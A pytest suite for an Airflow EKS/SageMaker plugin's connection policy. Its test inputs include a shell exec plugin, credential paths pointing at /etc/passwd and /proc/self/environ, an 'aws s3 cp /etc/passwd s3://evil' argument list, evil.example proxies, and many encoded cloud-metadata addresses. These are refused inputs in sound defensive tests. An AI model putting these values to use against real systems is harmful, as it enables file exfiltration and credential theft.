"""In the API server a connection is data: it points at no file, no program, no address that nobody listed."""

from __future__ import annotations

import base64
import json
import time
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
import yaml
from airflow.models import Connection

from airflow_ack_sagemaker.kube.connection.authenticator import Authenticator
from airflow_ack_sagemaker.kube.connection.config import ClusterConfig
from airflow_ack_sagemaker.kube.connection.eks_token import EksToken
from airflow_ack_sagemaker.kube.errors import ConfigError
from airflow_ack_sagemaker.plugin.connection_policy import ConnectionPolicy, check_aws, server_config

EKS = "https://0123456789ABCDEF0123456789ABCDEF.gr7.eu-central-1.eks.amazonaws.com"
GET_TOKEN = {
    "apiVersion": "client.authentication.k8s.io/v1beta1",
    "command": "aws",
    "args": ["--region", "eu-central-1", "eks", "get-token", "--cluster-name", "prod", "--output", "json"],
    "env": None,
}


def kubeconfig(user: dict[str, Any] | None = None, **cluster: Any) -> dict[str, Any]:
    return {
        "apiVersion": "v1",
        "kind": "Config",
        "clusters": [{"name": "c", "cluster": {"server": "https://10.0.0.1:6443", **cluster}}],
        "users": [{"name": "u", "user": user or {}}],
        "contexts": [{"name": "x", "context": {"cluster": "c", "user": "u", "namespace": "ml"}}],
        "current-context": "x",
    }


class Session:
    """A session with fixed keys; the client is botocore's own, which asks nobody for its model."""

    def __init__(self) -> None:
        import boto3

        self._session = boto3.Session("AKIAEXAMPLE", "secret", "session-token", region_name="us-east-1")

    def __call__(self) -> Any:
        return self._session


def read(extra: dict[str, Any], *, session: Any = None, **allowed: Any) -> ClusterConfig:
    return server_config(extra, conn_id="prod", session=session, allowed=ConnectionPolicy(**allowed), environ={})


def inline(*arguments: Any, **cluster: Any) -> dict[str, Any]:
    return {"kube_config": yaml.safe_dump(kubeconfig(*arguments, **cluster))}


def test_data_is_taken() -> None:
    authority = base64.b64encode(b"-----BEGIN CERTIFICATE-----").decode()
    found = read(inline({"token": "t"}, **{"certificate-authority-data": authority}))
    assert (found.server, found.namespace, found.credential.token) == ("https://10.0.0.1:6443", "ml", "t")


@pytest.mark.parametrize("shape", [json.dumps, yaml.safe_dump, dict])
@pytest.mark.parametrize("key", ["kube_config", "extra__kubernetes__kube_config"])
def test_a_program_is_refused_however_it_is_written(shape: Any, key: str, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    plugin = {**GET_TOKEN, "command": "/bin/sh", "args": ["-c", f"touch {marker}"]}
    with pytest.raises(ConfigError, match="program"):
        read({key: shape(kubeconfig({"exec": plugin}))})
    assert not marker.exists()


@pytest.mark.parametrize(
    ("user", "cluster"),
    [
        ({"tokenFile": "/etc/passwd"}, {}),
        ({"client-certificate": "/etc/passwd"}, {}),
        ({"client-certificate": "/no/such/file"}, {}),
        ({"client-key": "/etc/passwd", "token": "t"}, {}),
        ({"token": "t"}, {"certificate-authority": "/etc/passwd"}),
        ({"token": "t", "tokenFile": "/etc/passwd"}, {}),
        (
            {"exec": {**GET_TOKEN, "provideClusterInfo": True}},
            {"certificate-authority": "/proc/self/environ", "server": EKS},
        ),
    ],
    ids=str,
)
def test_a_file_is_refused(user: dict[str, Any], cluster: dict[str, Any]) -> None:
    with pytest.raises(ConfigError, match="names a file"):
        read(inline(user, **cluster), session=Session())


@pytest.mark.parametrize(
    "server",
    [
        "http://169.254.169.254",
        "http://[fd00:ec2::254]",
        "http://[fd20:ce::254]/computeMetadata/v1",
        "http://[fd00:42::42]",
        "http://2852039166/latest",
        "http://0xa9fea9fe",
        "http://[::ffff:169.254.169.254]",
        "http://metadata.google.internal.",
        "http://169.254.170.2/v2/credentials",
        "http://168.63.129.16/machine",
        "http://100.100.100.200/latest/meta-data",
        "http://192.0.0.192/latest",
        "http://[64:ff9b::a9fe:a9fe]",
        "http://[2002:a9fe:a9fe::]",
        "http://[::a9fe:a9fe]",
        "http://[::ffff:0:a9fe:a9fe]",
        "http://[64:ff9b:1::a9fe:a9fe]",
        "http://[64:ff9b:1:ffff:0:0:a9fe:a9fe]",
        "http://[64:ff9b:1:a9fe:a9:fe00::]",
        "http://[64:ff9b:1:a9:fe:a9fe::]",
        "http://[64:ff9b:1::a9:fea9:fe00:0]",
        "http://METADATA.goog",
    ],
)
def test_the_clouds_metadata_service_is_no_cluster(server: str) -> None:
    with pytest.raises(ConfigError, match="metadata"):
        read(inline(server=server))
    with pytest.raises(ConfigError, match="metadata"):
        read(inline(**{"proxy-url": server}))


@pytest.mark.parametrize(
    "host", ["[64:ff9b:1::a00:1]", "[64:ff9b::a00:1]", "[fd00::1]", "metadata.example", "10.0.0.1"]
)
def test_other_addresses_are_taken(host: str) -> None:
    assert read(inline(server=f"https://{host}:6443")).server == f"https://{host}:6443"


def test_the_context_is_a_text_or_a_number_as_in_tasks() -> None:
    numbered = kubeconfig({"token": "t"})
    numbered["contexts"][0]["name"] = "83"
    assert read({"kube_config": numbered, "cluster_context": 83}).namespace == "ml"
    with pytest.raises(ConfigError, match="cluster_context"):
        read({"kube_config": numbered, "cluster_context": ["83"]})


def test_what_is_nested_deeper_than_python_writes_is_no_kubeconfig() -> None:
    """JSON is read a little deeper than it is written, since whoever writes it stands deeper already."""
    nested: list[Any] = []
    for _ in range(5_000):
        nested = [nested]
    with pytest.raises(ConfigError, match="not of the form"):
        read({"kube_config": kubeconfig({"token": "t"}, other=nested)})


def test_a_refusal_says_where_the_option_is(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match=r"see connection_editors_may_run_programs in Airflow's section \[ack_sage"):
        read(inline({"tokenFile": "/etc/passwd"}))
    with pytest.raises(ConfigError, match=r"\[ack_sagemaker\] kube_config_paths, or see connection_editors_m"):
        read({"kube_config_path": str(tmp_path)})


def test_a_kubeconfig_file_is_one_that_the_operator_lists(tmp_path: Path) -> None:
    path = tmp_path / "config"
    path.write_text(yaml.safe_dump(kubeconfig({"exec": {**GET_TOKEN, "command": "/bin/true"}})))
    with pytest.raises(ConfigError, match="kube_config_paths"):
        read({"kube_config_path": str(path)})
    # Its programs are the operator's.
    found = read({"kube_config_path": f"{tmp_path}/x/../config"}, kube_config_paths=frozenset({str(path)}))
    assert found.credential.plugin is not None
    with pytest.raises(ConfigError, match="kube_config_paths"):
        read({"kube_config_path": f"{path}:/etc/passwd"}, kube_config_paths=frozenset({str(path)}))
    with pytest.raises(ConfigError, match="disable_verify_ssl"):
        read({"kube_config_path": str(path), "disable_verify_ssl": True}, kube_config_paths=frozenset({str(path)}))
    assert read({"kube_config_path": str(path)}, trusts_editors=True).credential.plugin is not None


@pytest.mark.parametrize(
    ("region", "domain"),
    [
        ("eu-central-1", "amazonaws.com"),
        ("us-gov-west-1", "amazonaws.com"),
        ("cn-north-1", "amazonaws.com.cn"),
        ("eusc-de-east-1", "amazonaws.eu"),
    ],
)
def test_a_token_of_eks_is_made_here(region: str, domain: str) -> None:
    plugin = {**GET_TOKEN, "args": ["--region", region, *GET_TOKEN["args"][2:]]}  # type: ignore[index]
    server = EKS.replace("eu-central-1", region).replace("amazonaws.com", domain)
    config = read(inline({"exec": plugin}, server=server), session=Session())
    assert config.credential.plugin is None
    authenticator = Authenticator(config)
    authenticator.load()
    (name, value), *_ = authenticator.headers
    assert name == "Authorization"
    token = value.removeprefix("Bearer k8s-aws-v1.")
    assert token != value
    url = urlsplit(base64.urlsafe_b64decode(token + "=" * (-len(token) % 4)).decode())
    query = parse_qs(url.query)
    assert (url.scheme, url.netloc) == ("https", f"sts.{region}.{domain}")
    assert query["Action"] == ["GetCallerIdentity"]
    assert query["X-Amz-SignedHeaders"] == ["host;x-k8s-aws-id"]
    assert query["X-Amz-Security-Token"] == ["session-token"]
    assert query["X-Amz-Credential"][0].split("/")[2:4] == [region, "sts"]
    assert int(query["X-Amz-Expires"][0]) <= 15 * 60


@pytest.mark.parametrize("option", ["--role", "--role-arn"])
def test_the_role_of_a_token_is_the_one_that_update_kubeconfig_writes(option: str) -> None:
    """``aws eks update-kubeconfig --role-arn`` writes the option shortened: ``--role``."""
    role = "arn:aws:iam::123456789012:role/deployer"
    plugin = {**GET_TOKEN, "args": [*GET_TOKEN["args"], option, role]}  # type: ignore[misc]
    issuer = read(inline({"exec": plugin}, server=EKS), session=Session()).credential.issuer
    assert isinstance(issuer, EksToken)
    assert issuer.role_arn == role


def test_a_token_of_eks_is_renewed_before_it_ends() -> None:
    clock = [time.time()]
    authenticator = Authenticator(
        read(inline({"exec": GET_TOKEN}, server=EKS), session=Session()), now=lambda: clock[0]
    )
    authenticator.load()
    assert authenticator.renewable
    assert not authenticator.stale
    clock[0] += 14.5 * 60
    assert authenticator.stale


def test_the_signature_of_a_token_is_that_of_the_key() -> None:
    """Computed again by botocore's signer for a request that is known to be right."""
    from botocore.auth import SigV4QueryAuth
    from botocore.awsrequest import AWSRequest
    from botocore.credentials import Credentials

    authenticator = Authenticator(read(inline({"exec": GET_TOKEN}, server=EKS), session=Session()))
    authenticator.load()
    token = authenticator.headers[0][1].removeprefix("Bearer k8s-aws-v1.")
    url = base64.urlsafe_b64decode(token + "=" * (-len(token) % 4)).decode()
    given = {name: values[0] for name, values in parse_qs(urlsplit(url).query).items()}
    signer = SigV4QueryAuth(Credentials("AKIAEXAMPLE", "secret", "session-token"), "sts", "eu-central-1", 60)
    request = AWSRequest(
        "GET",
        "https://sts.eu-central-1.amazonaws.com/",
        headers={"x-k8s-aws-id": "prod"},
        params={name: value for name, value in given.items() if name != "X-Amz-Signature"},
    )
    request.context["timestamp"] = given["X-Amz-Date"]
    canonical = signer.canonical_request(request)
    assert signer.signature(signer.string_to_sign(request, canonical), request) == given["X-Amz-Signature"]


@pytest.mark.parametrize(
    ("plugin", "cluster"),
    [
        ({**GET_TOKEN, "env": [{"name": "AWS_PROFILE", "value": "admin"}]}, {}),
        ({**GET_TOKEN, "env": [{"name": "AWS_SHARED_CREDENTIALS_FILE", "value": "/etc/x"}]}, {}),
        ({**GET_TOKEN, "args": [*GET_TOKEN["args"], "--profile", "admin"]}, {}),  # type: ignore[misc]
        ({**GET_TOKEN, "args": ["s3", "cp", "/etc/passwd", "s3://evil"]}, {}),
        ({**GET_TOKEN, "args": ["eks", "get-token", "--cluster-name", "../x"]}, {}),
        (GET_TOKEN, {"server": "https://evil.example"}),
        (GET_TOKEN, {"server": f"{EKS}.evil.example"}),
        (GET_TOKEN, {"server": EKS.replace("https", "http")}),
        (GET_TOKEN, {"server": EKS.replace("eu-central-1", "us-east-1")}),
        (GET_TOKEN, {"server": EKS, "proxy-url": "http://evil.example"}),
        (GET_TOKEN, {"server": EKS, "tls-server-name": "evil.example"}),
        (GET_TOKEN, {"server": EKS, "insecure-skip-tls-verify": True}),
    ],
    ids=str,
)
def test_a_token_of_eks_goes_to_eks_only(plugin: dict[str, Any], cluster: dict[str, Any]) -> None:
    with pytest.raises(ConfigError):
        read(inline({"exec": plugin}, **{"server": EKS, **cluster}), session=Session())


def test_a_token_of_eks_needs_an_aws_connection() -> None:
    with pytest.raises(ConfigError, match="aws_conn_id"):
        read(inline({"exec": GET_TOKEN}, server=EKS))


def aws(extra: dict[str, Any], **allowed: Any) -> None:
    check_aws(Connection("aws", conn_type="aws", extra=json.dumps(extra)), ConnectionPolicy(**allowed))


def test_an_aws_connection_of_data_is_taken() -> None:
    aws({})
    aws(
        {
            "region_name": "eu-central-1",
            "aws_access_key_id": "a",
            "aws_secret_access_key": "b",
            "aws_session_token": "c",
            "role_arn": "arn:aws:iam::123456789012:role/x",
            "assume_role_method": "assume_role",
            "assume_role_kwargs": {"ExternalId": "x"},
            "config_kwargs": {"retries": {"mode": "standard"}},
            "verify": True,
        }
    )
    aws({"endpoint_url": "https://s3.example/"}, aws_endpoint_urls=frozenset({"https://s3.example"}))
    aws({"assume_role_method": "assume_role_with_web_identity"}, trusts_editors=True)


@pytest.mark.parametrize(
    "extra",
    [
        {"endpoint_url": "http://169.254.169.254"},
        {"service_config": {"sts": {"endpoint_url": "http://evil.example"}}},
        {"service_config": []},
        {"assume_role_method": "assume_role_with_web_identity"},
        {"assume_role_with_web_identity_token_file": "/etc/passwd"},
        {"assume_role_with_saml": {"idp_url": "http://evil.example"}},
        {"profile_name": "admin"},
        {"session_kwargs": {"profile_name": "admin"}},
        {"s3_config_file": "/etc/passwd"},
        {"verify": "/etc/passwd"},
        {"verify": False},
        {"config_kwargs": {"proxies": {"https": "http://evil.example"}}},
        {"config_kwargs": {"client_cert": "/etc/passwd"}},
        {"assume_role_kwargs": {"SerialNumber": "x"}},
        {"something_that_comes_later": "x"},
    ],
    ids=str,
)
def test_an_aws_connection_that_is_more_is_refused(extra: dict[str, Any]) -> None:
    with pytest.raises(ConfigError):
        aws(extra)
